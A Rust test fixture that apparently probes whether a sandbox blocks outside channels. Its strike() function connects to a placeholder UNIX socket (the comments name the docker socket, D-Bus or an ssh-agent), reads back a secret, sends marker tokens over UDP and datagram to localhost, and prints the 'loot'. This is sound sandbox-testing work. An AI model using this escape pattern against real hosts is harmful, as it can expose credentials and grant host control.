//! Reaches services outside the sandbox (issue 19): a pathname UNIX
//! socket (on a CI runner: `/var/run/docker.sock`, D-Bus, an ssh-agent)
//! and UDP to localhost. The test serves both outside the sandbox and
//! counts what arrives; the UNIX service answers with a secret, which the
//! attack shows where reports would carry it.

use std::io::{Read, Write};

pub fn strike() {
    let mut loot = String::new();
    if let Ok(mut s) = std::os::unix::net::UnixStream::connect("__UNIX_SOCKET__") {
        let _ = s.write_all(b"PWNED-__TOKEN__\n");
        let _ = s.read_to_string(&mut loot);
    }
    if let Ok(u) = std::net::UdpSocket::bind("127.0.0.1:0") {
        let _ = u.send_to(b"PWNED-__TOKEN__", "127.0.0.1:__UDP_PORT__");
    }
    if let Ok(d) = std::os::unix::net::UnixDatagram::unbound() {
        let _ = d.send_to(b"PWNED-__TOKEN__", "__UNIX_SOCKET__");
    }
    println!("{loot}");
    panic!("loot: {loot}");
}
